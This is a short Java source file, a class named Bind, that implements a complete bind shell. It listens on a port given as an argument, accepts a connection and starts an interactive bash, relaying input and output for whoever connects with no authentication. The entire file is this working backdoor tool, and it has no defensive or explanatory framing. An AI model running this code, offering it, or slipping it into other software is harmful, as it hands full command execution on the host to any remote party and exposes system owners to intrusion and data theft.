import java.net.ServerSocket;
import java.net.Socket;

/** Listens, then starts a shell for whoever connects, and carries bytes between the two. */
public final class Bind {
    public static void main(String[] args) throws Exception {
        try (ServerSocket server = new ServerSocket(Integer.parseInt(args[0])); Socket socket = server.accept()) {
            Process shell = new ProcessBuilder("/bin/bash", "-i").redirectErrorStream(true).start();
            Thread answers = new Thread(() -> {
                try {
                    shell.getInputStream().transferTo(socket.getOutputStream());
                } catch (java.io.IOException gone) {
                    // the other side closed: the conversation is over
                }
            });
            answers.setDaemon(true);
            answers.start();
            byte[] buffer = new byte[4096];
            for (int count; (count = socket.getInputStream().read(buffer)) > 0; ) {
                shell.getOutputStream().write(buffer, 0, count);
                shell.getOutputStream().flush();
            }
            shell.destroy();
        }
    }
}
